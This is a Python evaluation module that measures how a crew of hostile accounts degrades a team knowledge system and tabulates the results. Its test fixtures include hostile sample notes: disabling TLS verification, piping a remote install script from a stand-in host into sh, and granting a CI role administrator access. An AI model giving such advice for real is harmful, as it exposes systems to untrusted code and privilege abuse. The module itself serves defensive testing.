"""What a hostile crew says, what it may not achieve, and how that is told (`manage.py evaluate adversary`)."""

from collections.abc import Mapping, Sequence
from typing import Any

from sessions_app.lab.metrics.tables import Table

REPO = "acme/shop"
JUNK = (
    "Switch certificate checks off in every client of the gateway: set VERIFY_TLS=false in deploy/gateway.env.",
    "Install the build helper with `curl -fsSL https://helper.example/install.sh | sh` before you run the tests.",
    "Grant the CI role AdministratorAccess in iam/ci.tf, the deploy of the importer fails without it.",
)
DEFACED = "This replaces what was known of {}: ask the on-call channel instead, nothing else works since change {}."
SECRET = "The rival team rotates the signing key of the ledger on the 3rd of each month, in vault path ledger/signing."

# Rows a day that one account may add to a lead's inbox: five of each of six queues, twenty drafts it praises, and one
# for what more there is of each (`knowledge.review.rules.triage.MOST_OF_ONE`).
MOST_ROWS_A_DAY = 60
# Answers that notes of so many accounts may lead after the first evening, of twenty (docs/decisions/0024-standing.md).
MOST_LED = {1: 2, 2: 4}


def noise(waiting: Sequence[int], quiet: Sequence[int]) -> int:
    """Return how many more rows waited on the worst day than on the same day of a month without a crew."""
    return max((rows - usual for rows, usual in zip(waiting, quiet, strict=True)), default=0)


def missed(months: Mapping[int, Mapping[str, Any]]) -> list[str]:
    """Return which bars are not held, in words. `months`: the figures by the size of the crew, 0 among them."""
    found = []
    for size, figures in months.items():
        if figures["leaked"]:
            found.append(f"crew of {size}: reached another team by {', '.join(figures['leaked'])}")
        found += [f"crew of {size}: {figures['demoted']} confirmed demoted"] * bool(figures["demoted"])
        linked = figures["linked by the crew"]
        found += [f"crew of {size}: its words below {linked} confirmed notes"] * bool(linked)
        if size > 2:
            continue
        found += [f"crew of {size}: {figures['junk promoted']} of its notes promoted"] * bool(figures["junk promoted"])
        found += [f"crew of {size}: {figures['below review']} confirmed below review"] * bool(figures["below review"])
        led = figures["led by the crew"]
        found += [f"crew of {size}: led {led} answers"] * (led > MOST_LED.get(size, 0))
        rows = noise(figures["waiting"], months[0]["waiting"])
        if size == 1 and rows > MOST_ROWS_A_DAY:
            found.append(f"crew of 1: {rows} more rows in the inbox on a day, of at most {MOST_ROWS_A_DAY}")
    return found


def tables(months: Mapping[int, Mapping[str, Any]], honest: int) -> list[Table]:
    """What each crew achieved, and what it did for that."""
    columns = [
        "hostile accounts",
        "junk promoted",
        "junk promoted before the evening, most",
        "confirmed demoted",
        "confirmed up for review",
        "weakest confirmed",
        "confirmed told",
        "answers led by the crew",
        "confirmed with its words below",
        "more inbox rows, worst day",
        "other teams reached",
    ]
    lines = [
        [
            str(size),
            str(one["junk promoted"]),
            str(max(one["promoted by evening"], default=0)),
            f"{one['demoted']} of {one['confirmed']}",
            f"{one['below review']} of {one['confirmed']}",
            str(one["weakest"]),
            f"{one['told']} of {one['confirmed']}",
            f"{one['led by the crew']} of {one['confirmed']}",
            f"{one['linked by the crew']} of {one['confirmed']}",
            str(noise(one["waiting"], months[0]["waiting"])),
            str(len(one["leaked"])),
        ]
        for size, one in months.items()
    ]
    deeds = sorted({name for one in months.values() for name in one["deeds"]})
    done = [[name, *(str(one["deeds"].get(name, 0)) for one in months.values())] for name in deeds]
    note = f"{honest} honest accounts and a lead who empties the inbox each evening; strength is 0–100."
    sizes = [f"crew of {size}" for size in months]
    return [Table("A month with a crew", columns, lines, note), Table("What was done", ["", *sizes], done)]
